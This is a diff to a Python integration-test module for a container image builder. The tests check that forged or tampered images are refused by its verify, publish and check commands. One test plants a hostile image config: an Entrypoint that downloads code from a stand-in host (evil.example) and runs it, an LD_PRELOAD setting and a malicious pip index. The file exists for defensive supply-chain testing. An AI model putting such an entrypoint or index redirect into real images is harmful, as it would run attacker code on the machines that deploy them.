@@ -128,6 +128,7 @@ class Staged:
     verified: dict[str, dict[str, object]]  # layer -> its node in verify's report
     other: str  # the other build of the leaf's key on this engine
     verifier: Path  # the verifying machine's public key
+    builder: Path  # the staging machine's public key (its build records)
 
     def key_tag(self, layer: str) -> str:
         return f"cache-{str(self.nodes[layer]['key'])[:12]}"
@@ -162,11 +163,12 @@ def staged(engine: DockerEngine, registry: str, wheelhouse: Path, base_image: st
     # and not the one that was staged.
     other = build_on(engine, str(nodes["base"]["image"]), {"io.imagebuilder.key": str(nodes["leaf"]["key"])}, "other")
     engine.remove_image(str(nodes["leaf"]["image"]))
-    verify = run_cli("--cache-dir", str(folder / "m2"), "verify", "--matrix", str(matrix), "--report",
-                     str(folder / "verify"))
+    builder = public_key(folder / "builder.pub", folder / "m1")  # the verifier trusts the stager's build records
+    verify = run_cli("--cache-dir", str(folder / "m2"), "--trust-build-key", str(builder), "verify", "--matrix",
+                     str(matrix), "--report", str(folder / "verify"))
     verified = {n["layer"]: n for n in report(folder / "verify")["nodes"]}
     return Staged(folder, matrix, f"itest/{repository}", nodes, verify, verified, other,
-                  public_key(folder / "verifier.pub", folder / "m2"))
+                  public_key(folder / "verifier.pub", folder / "m2"), builder)
 
 
 def test_verify_tests_the_staged_digest_not_another_build_of_its_key(staged: Staged) -> None:
@@ -175,14 +177,20 @@ def test_verify_tests_the_staged_digest_not_another_build_of_its_key(staged: Sta
     assert leaf["smoke"] == "passed" and leaf["image"] == staged.nodes["leaf"]["image"] != staged.other
     assert leaf["digest"] == staged.nodes["leaf"]["digest"]
     assert str(leaf["pass_record"]).endswith("(written by this run)")
-    assert f"this engine's image {staged.other[:19]} has the key" in staged.verify.out
     assert str(staged.verified["base"]["pass_record"]).startswith("registry ")  # the base, via the leaf
 
 
+def trusting(staged: Staged) -> tuple[str, ...]:
+    """The keys a publish or promote job names: the verifier's for passes, the stager's for build records."""
+    return "--trust-key", str(staged.verifier), "--trust-build-key", str(staged.builder)
+
+
 def publish(staged: Staged, machine: str) -> tuple[CliRun, dict[str, dict[str, object]]]:
-    run = run_cli("--cache-dir", str(staged.folder / machine), "--trust-key", str(staged.verifier), "publish",
-                  "--matrix", str(staged.matrix), "--report", str(staged.folder / machine), env=job_key(staged.folder))
-    return run, {n["layer"]: n for n in report(staged.folder / machine)["nodes"]}
+    run = run_cli("--cache-dir", str(staged.folder / machine), *trusting(staged), "publish", "--matrix",
+                  str(staged.matrix), "--report", str(staged.folder / machine), env=job_key(staged.folder))
+    folder = staged.folder / machine
+    nodes = {n["layer"]: n for n in report(folder)["nodes"]} if (folder / "report.json").exists() else {}
+    return run, nodes
 
 
 def test_only_what_was_tested_and_signed_is_published(engine: DockerEngine, registry: str, staged: Staged) -> None:
@@ -210,7 +218,7 @@ def test_only_what_was_tested_and_signed_is_published(engine: DockerEngine, regi
     reg.put_manifest(repo, record_tag, *original)  # undone
 
     # 2. Push rights, no key: the leaf's key tag moved to another image, with a record beside it signed by a key
-    #    of its own. publish and promote count nothing, and say why.
+    #    of its own. publish and promote count nothing, and say why: no trusted build record names that image.
     engine.tag(staged.other, f"{REGISTRY}/{repo}:{staged.key_tag('leaf')}")
     forged_digest = engine.push(f"{REGISTRY}/{repo}:{staged.key_tag('leaf')}")
     reg.copy(repo, forged_digest, repo, "nightly-forged")
@@ -219,25 +227,25 @@ def test_only_what_was_tested_and_signed_is_published(engine: DockerEngine, regi
     forged = dataclasses.replace(legit, config=staged.other)  # the same claims, about the other image
     intruder = Signer.generate("someone with push rights")
     RegistryPasses(reg, Trust((intruder.public,)), intruder).put(repo, forged.at(forged_digest, f"{REGISTRY}/{repo}"))
-    minted, nodes = publish(staged, "m4")
-    assert minted.code == 1 and "signed by an untrusted key" in str(nodes["leaf"]["error"]), minted.text[-3000:]
+    minted, nodes = publish(staged, "m4")  # the key tag names an image no trusted build record vouches for
+    assert minted.code == 2 and "not staged by a trusted build key" in minted.err, minted.text[-3000:]
+    assert f"key tag {REGISTRY}/{repo}:{staged.key_tag('leaf')}" in minted.err
     assert registry_tags(registry, repo) == ["nightly-forged"]
-    promoted = run_cli("--trust-key", str(staged.verifier), "promote", "--matrix", str(staged.matrix), "--from",
+    promoted = run_cli(*trusting(staged), "promote", "--matrix", str(staged.matrix), "--from",
                        f"{REGISTRY}/{repo}:nightly-*", "--to", "stable-{match}")
     assert promoted.code == 1 and "refused: no pass record that counts" in promoted.out, promoted.text
     assert "signed by an untrusted key" in promoted.out
     reg.copy(repo, leaf_digest, repo, staged.key_tag("leaf"))  # undone
 
-    # 3. The base rebuilt by another machine under its key (key tag moved): the leaf was built on the old base,
-    #    so the new one gets no pass; publish refuses it, naming both images.
+    # 3. The base rebuilt by another machine under its key (key tag moved): no trusted build record names the new
+    #    image, so publish stops before anything, naming the key tag and why (the leaf was built on the old base).
     rebuilt = build_on(engine, str(staged.nodes["base"]["image"]), {"io.imagebuilder.key": str(
         staged.nodes["base"]["key"])}, "rebuilt")
     engine.tag(rebuilt, f"{REGISTRY}/{repo}:{staged.key_tag('base')}")
     engine.push(f"{REGISTRY}/{repo}:{staged.key_tag('base')}")
     moved, nodes = publish(staged, "m5")
-    assert moved.code == 1, moved.text[-3000:]
-    assert str(staged.nodes["leaf"]["image"])[:19] in str(nodes["base"]["error"])
-    assert rebuilt in str(nodes["base"]["error"]) and "nothing was tested on that image" in str(nodes["base"]["error"])
+    assert moved.code == 2 and "not staged by a trusted build key" in moved.err, moved.text[-3000:]
+    assert f"{staged.key_tag('base')} names" in moved.err and "no build record is beside it" in moved.err
     assert registry_tags(registry, repo) == ["nightly-forged"]
     reg.copy(repo, base_digest, repo, staged.key_tag("base"))  # undone
     engine.remove_image(rebuilt)  # (its key is this module's own, but no later plan should find it)
@@ -252,7 +260,7 @@ def test_only_what_was_tested_and_signed_is_published(engine: DockerEngine, regi
     proxy = TagRefusingProxy(registry, nth=2)
     through = staged.folder / "through-proxy.yaml"
     through.write_text(staged.matrix.read_text().replace(registry, proxy.host))
-    refused = run_cli("--cache-dir", str(staged.folder / "m6"), "--trust-key", str(staged.verifier), "publish",
+    refused = run_cli("--cache-dir", str(staged.folder / "m6"), *trusting(staged), "publish",
                       "--matrix", str(through), "--report", str(staged.folder / "m6"), env=job_key(staged.folder))
     proxy.shutdown()
     assert refused.code == 1 and proxy.refused and "HTTP 403" in refused.out, refused.text[-3000:]
@@ -385,21 +393,136 @@ def test_a_forged_base_label_credits_no_ancestor(registry: str, staged: Staged, 
     leaf_doc["config"]["digest"] = put_blob(repo, json.dumps(config).encode())
     leaf_doc["config"]["size"] = len(json.dumps(config).encode())
     put_manifest(repo, staged.key_tag("leaf"), leaf_doc, leaf_type)
-    verified = run_cli("--cache-dir", str(staged.folder / "m2"), "verify", "--matrix", str(staged.matrix),
-                       "--accept-regression",  # (this machine's noise is not what is tested here)
+    verified = run_cli("--cache-dir", str(staged.folder / "m2"), "--trust-build-key", str(staged.builder), "verify",
+                       "--matrix", str(staged.matrix), "--accept-regression",  # (this machine's noise is not tested)
                        "--report", str(staged.folder / "attack-2-verify"))
-    nodes = {n["layer"]: n for n in report(staged.folder / "attack-2-verify")["nodes"]}
-    assert verified.code == 1 and nodes["leaf"]["smoke"] == "passed", verified.text[-3000:]
-    assert "whose layers do not start with the" in str(nodes["base"]["error"]) and evil in str(nodes["base"]["error"])
+    # No trusted build record names the forged base (nor the forged leaf): nothing is tested, and it says so first.
+    assert verified.code == 2 and "not staged by a trusted build key" in verified.err, verified.text[-3000:]
+    assert f"{staged.key_tag('base')} names {str(evil_digest)[:19]}" in verified.err
     trust = Keys.load(staged.folder / "m2" / "keys", {}).trust
     assert evil_digest is not None
     assert not [t for t in passes.tags_for(evil_digest, registry_tags(registry, repo, cache=True))
                 if RegistryPasses(reg, trust).read(repo, t).record is not None]
     before = {t: reg.manifest_digest(repo, t) for t in registry_tags(registry, repo)}
-    forged, nodes = publish(staged, "attack-2-publish")
-    assert forged.code == 1 and {t: reg.manifest_digest(repo, t) for t in registry_tags(registry, repo)} == before
+    forged, _ = publish(staged, "attack-2-publish")
+    assert forged.code == 2 and {t: reg.manifest_digest(repo, t) for t in registry_tags(registry, repo)} == before
     assert evil_digest not in before.values()
     docker("rmi", "-f", evil)
+
+
+# Issue 50: provenance at every joint, keys by role, one judge. Each attack as an outsider plays it (docker CLI and
+# plain registry HTTP; the holder of a fleet's key uses the key as its jobs do); the honest machines are the CLI.
+
+def check(staged: Staged, digest: str, *keys: str, policy: tuple[str, ...] = ("build", "pass")) -> CliRun:
+    """`imagebuilder check` as a deploy gate runs it: by digest, with the keys it names, the build policy in."""
+    return run_cli("check", f"{REGISTRY}/{staged.repo}@{digest}", *keys,
+                   *(f"--policy={one}" for one in policy))
+
+
+def test_an_ancestor_under_another_config_is_neither_tested_nor_published_nor_admitted(
+        registry: str, staged: Staged, key_tags_restored: None) -> None:
+    """N5-01: the base's key tag re-pushed with the very layers and another config (an Entrypoint that fetches and
+    runs code, LD_PRELOAD, another index), by plain HTTP. The layers are honest, so the leaf is 'built on' them by
+    diff_ids; only the build record names the config: no trusted one does, so verify tests nothing and credits
+    nothing, publish moves no tag, and `check --policy build` refuses the digest."""
+    repo = staged.repo
+    base_digest = str(staged.nodes["base"]["digest"])
+    doc, media_type = get_manifest(repo, base_digest)
+    config = json.loads(call("GET", f"http://{REGISTRY}/v2/{repo}/blobs/{doc['config']['digest']}")[1])
+    config["config"]["Env"] = [*(config["config"].get("Env") or []), "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libpam.so.0",
+                               "PIP_INDEX_URL=https://pypi.evil.example/simple"]
+    config["config"]["Entrypoint"] = ["/bin/sh", "-c", "python3 -c 'import urllib.request as u; exec(u.urlopen("
+                                      "\"https://evil.example/x\").read())'; exec \"$@\"", "sh"]
+    data = json.dumps(config).encode()
+    doc["config"].update(digest=put_blob(repo, data), size=len(data))
+    swapped = put_manifest(repo, staged.key_tag("base"), doc, media_type)
+    assert swapped != base_digest
+    before = {t: Registry.for_host(registry).manifest_digest(repo, t) for t in registry_tags(registry, repo)}
+    verified = run_cli("--cache-dir", str(staged.folder / "m2"), "--trust-build-key", str(staged.builder), "verify",
+                       "--matrix", str(staged.matrix), "--report", str(staged.folder / "n5-01-verify"))
+    assert verified.code == 2 and "not staged by a trusted build key" in verified.err, verified.text[-3000:]
+    assert f"{staged.key_tag('base')} names {swapped[:19]}" in verified.err
+    published, _ = publish(staged, "n5-01-publish")
+    assert published.code == 2 and "not staged by a trusted build key" in published.err, published.text[-3000:]
+    assert {t: Registry.for_host(registry).manifest_digest(repo, t) for t in registry_tags(registry, repo)} == before
+    keys = ("--trust-key", f"gpu,cpu={staged.verifier}", "--trust-key", f"build={staged.builder}")
+    refused = check(staged, swapped, *keys)
+    assert refused.code == 1 and "no trusted build record names it: no build record is beside it" in refused.out
+    honest = check(staged, base_digest, *keys)
+    assert honest.code == 0, honest.text  # the honest base: its own record, and the pass through the leaf
+
+
+def test_a_pushers_leaf_is_not_tested_and_stage_pushes_the_honest_leaf_back(
+        registry: str, staged: Staged, key_tags_restored: None) -> None:
+    """N5-03: the honest leaf plus a backdoor layer, built with the docker CLI and pushed under the leaf's key tag
+    (no build record). verify runs no suite in it and says why before anything; `node stage` does not call the leaf
+    done; `check --policy build` refuses the digest; stage, on the machine that built it, pushes the honest leaf
+    back under its key tag, saying why."""
+    repo = staged.repo
+    leaf_digest = str(staged.nodes["leaf"]["digest"])
+    docker("pull", "-q", f"{REGISTRY}/{repo}@{leaf_digest}")
+    evil = docker_build_on(f"{REGISTRY}/{repo}@{leaf_digest}", "n5-03", staged.folder / "n5-03")
+    docker("tag", evil, f"{REGISTRY}/{repo}:{staged.key_tag('leaf')}")
+    docker("push", "-q", f"{REGISTRY}/{repo}:{staged.key_tag('leaf')}")
+    evil_digest = Registry.for_host(registry).manifest_digest(repo, staged.key_tag("leaf"))
+    docker("rmi", "-f", evil, f"{REGISTRY}/{repo}@{leaf_digest}")
+    assert evil_digest is not None and evil_digest != leaf_digest
+    verified = run_cli("--cache-dir", str(staged.folder / "m2"), "--trust-build-key", str(staged.builder), "verify",
+                       "--matrix", str(staged.matrix), "--report", str(staged.folder / "n5-03-verify"))
+    assert verified.code == 2 and f"{staged.key_tag('leaf')} names {evil_digest[:19]}" in verified.err, \
+        verified.text[-3000:]
+    leaf_id = str(staged.nodes["leaf"]["node"])
+    node = run_cli("--cache-dir", str(staged.folder / "m1"), "node", "stage", leaf_id, "--matrix", str(staged.matrix),
+                   "--report", str(staged.folder / "n5-03-node"), "--digest-file", str(staged.folder / "n5-03.digest"))
+    assert node.code == 0 and "nothing to do" not in node.out, node.text[-3000:]
+    assert f"names {evil_digest}" in node.out and "pushing this run's image over it" in node.out, node.out[-3000:]
+    assert Registry.for_host(registry).manifest_digest(repo, staged.key_tag("leaf")) == leaf_digest  # pushed back
+    refused = check(staged, evil_digest, "--trust-key", f"gpu,cpu={staged.verifier}", "--trust-key",
+                    f"build={staged.builder}")
+    assert refused.code == 1 and "no trusted build record names it" in refused.out, refused.text
+
+
+def test_a_cpu_fleets_key_never_vouches_for_a_gpu_pass(registry: str, staged: Staged, tmp_path: Path) -> None:
+    """N5-04: whoever holds the hosted (CPU) fleet's key signs a 'passed on 8x NVIDIA B200' verdict beside the leaf,
+    with the tool, as a compromised hosted job would. Named by role (`cpu,publish=`), that key's GPU claim counts
+    nowhere: `check --gpu B200` refuses, naming why; named without a role it would count (the control)."""
+    repo, reg = staged.repo, Registry.for_host(registry)
+    leaf_digest = str(staged.nodes["leaf"]["digest"])
+    made = run_cli("keys", "new", str(tmp_path / "hosted"))
+    assert made.code == 0, made.text
+    hosted = Signer.load(tmp_path / "hosted" / "signing.pem")
+    store = RegistryPasses(reg, Trust((hosted.public,)), hosted)
+    own = next(r for t in passes.tags_for(leaf_digest, registry_tags(registry, repo, cache=True))
+               if ".pass-" in t and (r := RegistryPasses(reg, Trust.of(None, (staged.verifier,))).read(repo, t).record))
+    claim = dataclasses.replace(own, gpu={"kind": "gpu", "verified": True, "models": ["NVIDIA B200"], "count": 8},
+                                date=passes.now())
+    tag = store.put(repo, claim, per_model=True)
+    try:
+        build = ("--trust-key", f"build={staged.builder}")
+        scoped = check(staged, leaf_digest, "--trust-key", f"gpu={staged.verifier}", "--trust-key",
+                       f"cpu,publish={tmp_path / 'hosted' / 'signing.pub'}", *build, "--gpu", "B200",
+                       policy=("build", "gpu"))
+        assert scoped.code == 1 and "no trusted pass on B200" in scoped.out, scoped.text
+        assert "which is trusted for cpu, publish, not for gpu" in scoped.out
+        unscoped = check(staged, leaf_digest, "--trust-key", str(tmp_path / "hosted" / "signing.pub"), *build,
+                         "--gpu", "B200", policy=("build", "gpu"))
+        assert unscoped.code == 0, unscoped.text  # (a key named without roles counts for every role)
+    finally:
+        reg.untag(repo, tag)
+
+
+def test_a_fresh_cache_folder_meeting_a_published_matrix_says_whom_to_trust_before_building(
+        staged: Staged) -> None:
+    """Zero-config on a new cache folder: its own key did not build what the registry holds. Before anything builds,
+    stage says whose build records are there and what to trust (it used to rebuild everything and then fail on
+    the immutable tags)."""
+    run = run_cli("--cache-dir", str(staged.folder / "fresh-machine"), "stage", "--matrix", str(staged.matrix),
+                  "--report", str(staged.folder / "fresh-stage"))
+    assert run.code == 2 and "vouched for by a build key this run does not trust" in run.err, run.text[-3000:]
+    assert "--trust-build-key" in run.err and "▶ build" not in run.out
+    trusted = run_cli("--cache-dir", str(staged.folder / "fresh-machine"), "--trust-build-key", str(staged.builder),
+                      "stage", "--matrix", str(staged.matrix), "--report", str(staged.folder / "fresh-stage"))
+    assert trusted.code == 0 and "▶ build" not in trusted.out, trusted.text[-3000:]
 
 
 def test_an_overwritten_verdict_blocks(registry: str, staged: Staged) -> None:
@@ -420,11 +543,20 @@ def test_an_overwritten_verdict_blocks(registry: str, staged: Staged) -> None:
                            per_model=True)
     refused, nodes = publish(staged, "attack-3-honest")
     assert refused.code == 1 and "failed this spec's suite on NVIDIA H100" in str(nodes["leaf"]["error"])
+    keys = ("--trust-key", str(staged.verifier), "--trust-key", f"build={staged.builder}")
+    gate = check(staged, leaf_digest, *keys)  # (N5-02: the deploy gate applies publish's rule)
+    assert gate.code == 1 and "failed this spec's suite on NVIDIA H100" in gate.out, gate.text
     doc, media_type = get_manifest(repo, passed_tag)
     put_manifest(repo, failed_tag, doc, media_type)  # the replay
     replayed, nodes = publish(staged, "attack-3-replayed")
     assert replayed.code == 1, replayed.text[-3000:]
     assert f"{failed_tag}: its record is not the verdict this tag names" in str(nodes["leaf"]["error"])
+    gate = check(staged, leaf_digest, *keys)
+    assert gate.code == 1 and f"{failed_tag}: its record is not the verdict this tag names" in gate.out, gate.text
+    image, image_type = get_manifest(repo, leaf_digest)
+    put_manifest(repo, failed_tag, image, image_type)  # any manifest over the failure
+    gate = check(staged, leaf_digest, *keys)
+    assert gate.code == 1 and f"a GPU verdict beside it does not count ({failed_tag}: " in gate.out, gate.text
 
 
 def test_one_key_one_image_on_a_persistent_engine(engine: DockerEngine, registry: str, wheelhouse: Path,
